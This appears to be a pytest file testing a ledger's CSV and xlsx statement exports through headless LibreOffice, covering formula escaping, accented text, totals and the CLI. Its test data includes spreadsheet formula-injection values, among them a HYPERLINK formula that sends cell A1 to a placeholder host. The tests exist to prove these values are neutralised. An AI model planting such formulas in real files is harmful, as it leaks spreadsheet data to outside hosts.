"""What finance opens: statements as CSV for programs and as xlsx workbooks
for spreadsheets, read back through a real spreadsheet program (LibreOffice,
headless), on SQLite and PostgreSQL. Cases 03 (formulas) and 04 (accents)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
import types
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from ledger import export
from tests.conftest import Harness, cmd, deal

CASES = Path(__file__).parent / "cases"
IN_CI = os.environ.get("CI") == "true" or os.environ.get("LEDGER_REQUIRE_POSTGRES") == "1"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def submit_case(h: Harness, name: str) -> None:
    results = h.ledger.submit_lines((CASES / name).read_text(encoding="utf-8").splitlines())
    assert all(r.status == "applied" for r in results), [r.as_dict() for r in results]


@pytest.fixture(scope="session")
def soffice(tmp_path_factory: pytest.TempPathFactory) -> tuple[str, Path]:
    """LibreOffice and a private profile (parallel runs must not share one)."""
    found = shutil.which("soffice")
    if found is None:
        message = "LibreOffice (soffice) is not installed: apt-get install libreoffice-calc"
        if IN_CI:
            pytest.fail(message)
        pytest.skip(message)
    return found, tmp_path_factory.mktemp("lo-profile")


def libreoffice_csv(soffice: tuple[str, Path], workbook: Path) -> str:
    """The workbook as LibreOffice reads it, saved as UTF-8 CSV: text cells
    quoted, numbers and dates as shown and unquoted."""
    binary, profile = soffice
    out = workbook.parent / f"{workbook.stem}-lo"
    subprocess.run(
        [binary, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to",
         "csv:Text - txt - csv (StarCalc):44,34,76,1", "--outdir", str(out), str(workbook)],
        check=True, capture_output=True, timeout=600,  # a first start builds the profile: slow
    )
    return (out / f"{workbook.stem}.csv").read_text(encoding="utf-8")


def formula_program(h: Harness) -> dict[str, Any]:
    """Case 03 plus names of every dangerous kind, in plans and customer names."""
    submit_case(h, "03-csv-formula.jsonl")
    tricky = ["+SUM(1,2)", "-2+3", "@SUM(A1)", "=1+1", "-", "+"]
    for i, text in enumerate(tricky, start=2):
        h.ok(deal(f"d-{i}", email=f"x@c{i}.fi", name=text, on="2026-02-01"),
             cmd("accept_deal", on="2026-02-02", deal=f"d-{i}"),
             cmd("win_deal", on="2026-02-20", actor="partner:acme", deal=f"d-{i}", billing="invoice",
                 order_number=f"@PO-{i}"),
             cmd("start_subscription", on="2026-03-05", subscription=f"s-{i}", customer_domain=f"c{i}.fi",
                 plan=text, amount="50.00", currency="EUR", period="monthly", deal=f"d-{i}"),  # billing: the deal's
             cmd("refund", on="2026-03-06", subscription=f"s-{i}", amount="10.00"))
    return h.ledger.statement("acme", "2026-03", as_of=date(2026, 3, 31))


def test_case_03_no_csv_cell_runs_as_a_formula(h: Harness) -> None:
    st = formula_program(h)
    text = export.statement_csv(st)
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    assert len(body) == 13  # case 03's charge, and a charge and a refund for each tricky name
    for row in body:
        for column, cell in zip(header, row):
            if cell.startswith(DANGEROUS):
                Decimal(cell)  # only a number may start so (a refund's -10.00)
                assert column in export.NUMBERS, (column, cell)
    first = dict(zip(header, body[0]))
    assert first["plan"] == "'" + '=HYPERLINK("http://example.invalid/?x="&A1,"Pro")'  # readable, inert
    assert first["customer"] == "Example Oy" and first["deal"] == "d-1"
    refunds = [dict(zip(header, r)) for r in body if r[1] == "refund"]
    assert {r["amount"] for r in refunds} == {"-10.00"} and {r["commission"] for r in refunds} == {"-2.00"}
    assert {r["customer"] for r in refunds} == {"'+SUM(1,2)", "'-2+3", "'@SUM(A1)", "'=1+1", "'-", "'+"}
    assert {r["order_number"] for r in refunds} == {f"'@PO-{i}" for i in range(2, 8)}  # from the won deal
    assert text.endswith("\r\n") and "\r\n" in text  # RFC 4180 line ends


def test_case_03_xlsx_text_is_never_a_formula(h: Harness, tmp_path: Path, soffice: tuple[str, Path]) -> None:
    st = formula_program(h)
    book = tmp_path / "statement.xlsx"
    export.statement_xlsx(st, str(book))
    raw = libreoffice_csv(soffice, book)
    rows = list(csv.reader(io.StringIO(raw, newline="")))
    header = next(i for i, r in enumerate(rows) if r[:2] == ["day", "entry"])
    cols = rows[header]
    body = [dict(zip(cols, r)) for r in rows[header + 1: header + 1 + len(st["lines"])]]
    # A formula would show its result ("Pro"); the text shows as typed.
    assert body[0]["plan"] == '=HYPERLINK("http://example.invalid/?x="&A1,"Pro")'
    assert {b["customer"] for b in body[1:]} == {"+SUM(1,2)", "-2+3", "@SUM(A1)", "=1+1", "-", "+"}
    assert {b["amount"] for b in body} == {"100.00", "50.00", "-10.00"}
    # Numbers and dates are unquoted in LibreOffice's CSV, text is quoted.
    lines = raw.splitlines()
    data_line = lines[header + 1]
    assert data_line.startswith('2026-03-02,"charge","s-1",1,"Example Oy"'), data_line
    assert ',100.00,"EUR",0.20,20.00,"commission-payable",80.00,20.00,20.00,0.00,' in data_line, data_line


def test_case_04_accents_survive_a_spreadsheet(h: Harness, tmp_path: Path, soffice: tuple[str, Path]) -> None:
    submit_case(h, "04-csv-accents.jsonl")
    st = h.ledger.statement("acme", "2026-03", as_of=date(2026, 3, 31))
    book = tmp_path / "accents.xlsx"
    export.statement_xlsx(st, str(book))
    back = libreoffice_csv(soffice, book)
    assert '"Perustaso Ää – Prämie"' in back and '"Esimerkki Oy"' in back
    # CSV for programs stays plain UTF-8: no byte-order mark, no other encoding.
    data = export.statement_csv(st).encode("utf-8")
    assert not data.startswith(b"\xef\xbb\xbf")
    assert "Perustaso Ää – Prämie".encode() in data


def test_workbook_header_totals_dates_and_numbers(h: Harness, tmp_path: Path, soffice: tuple[str, Path]) -> None:
    """Issued or not, fingerprint, totals per currency, money in the currency's decimals."""
    submit_case(h, "04-csv-accents.jsonl")
    h.ok(cmd("start_subscription", on="2026-03-09", subscription="s-2", customer_domain="example.fi", plan="Yen",
             amount="12000", currency="JPY", period="yearly", billing="credit-card"),
         cmd("start_subscription", on="2026-03-10", subscription="s-3", customer_domain="example.fi", plan="Big",
             amount="12000", currency="EUR", period="yearly", billing="credit-card"))
    from ledger.audit import Audit
    from ledger.service import Ledger

    h.clock.advance(days=120)
    with Ledger(h.url, "vendor:finance", clock=h.clock) as finance:
        issued = Audit(finance).issue_statement("acme", "2026-03")
    st = h.ledger.statement("acme", "2026-03")
    assert st["issued"]["fingerprint"] == issued["fingerprint"] == st["fingerprint"]
    book = tmp_path / "issued.xlsx"
    export.statement_xlsx(st, str(book))
    rows = list(csv.reader(io.StringIO(libreoffice_csv(soffice, book), newline="")))
    head = {r[0]: r[1] for r in rows[1:5]}
    assert head["Partner"] == "acme" and head["Month"] == "2026-03"
    assert head["Issued"].startswith(f"issued at position {issued['position']}")
    assert head["Fingerprint (sha256)"] == st["fingerprint"]
    at = next(i for i, r in enumerate(rows) if r and r[0] == "currency")
    totals = {r[0]: r[1:7] for r in rows[at + 1:] if r and r[0]}
    assert totals["EUR"][:2] == ["12100.00", "2420.00"]  # 12000 prints with its cents
    assert set(totals) == {"EUR", "JPY"}
    # The same money in every format.
    assert "12000.00" in export.statement_text(st)
    assert "12000.00" in export.statement_csv(st)
    assert export.statement_json(st)["totals"]["EUR"]["amount"] == "12100.00"


def test_money_goes_through_the_one_helper(monkeypatch: pytest.MonkeyPatch) -> None:
    """Minor units come from ledger.money when the ledger has it (JPY: none)."""
    fake = types.ModuleType("ledger.money")
    fake.format_money = lambda amount, currency: (  # type: ignore[attr-defined]
        str(amount.quantize(Decimal(1))) if currency == "JPY" else str(amount.quantize(Decimal("0.01"))))
    monkeypatch.setitem(sys.modules, "ledger.money", fake)
    assert export._money(Decimal("12000"), "JPY") == "12000"
    assert export._money(Decimal("12000"), "EUR") == "12000.00"
    assert export.decimals("JPY") == 0 and export.decimals("EUR") == 2


def test_tables_align_wide_characters() -> None:
    from wcwidth import wcswidth  # the terminal's measure, not the code under test

    rows = [{"customer": "株式会社テスト", "n": 1}, {"customer": "Example Oy", "n": 22}, {"customer": "Ää", "n": 3}]
    lines = export.table(rows, ["customer", "n"]).splitlines()
    # Every line's second column starts at the same terminal column.
    starts = {wcswidth(line.rsplit(" ", 1)[0] + " ") for line in lines if not line.startswith("-")}
    assert starts == {16}, lines  # 14 columns for seven wide characters, then two spaces


def test_statement_cli_xlsx_and_partner_default(db_url: str, tmp_path: Path) -> None:
    from tests.test_cli import Cli

    cli = Cli(db_url, tmp_path)
    cli.setup([json.loads(x) for x in (CASES / "04-csv-accents.jsonl").read_text().splitlines()])
    out = tmp_path / "s.xlsx"
    r = cli.ok("--as", "partner:acme", "statement", "--month", "2026-03", "--as-of", "2026-03-31",
               "--xlsx", str(out))
    assert out.read_bytes()[:2] == b"PK" and f"wrote 1 line of acme 2026-03 to {out}" in r.out
    text = cli.ok("--as", "partner:acme", "statement", "--month", "2026-03", "--as-of", "2026-03-31").out
    assert "Esimerkki Oy" in text and "1 line" in text and "100.00" in text
    bad = cli("statement", "--partner", "acme", "--month", "2026-03", "--xlsx", str(tmp_path / "no" / "x.xlsx"))
    assert bad.code == 2 and "--xlsx" in bad.err and len(bad.err.strip().splitlines()) == 1, str(bad)
    assert re.search(r"no partner nobody", cli("statement", "--partner", "nobody", "--month", "2026-03").err)
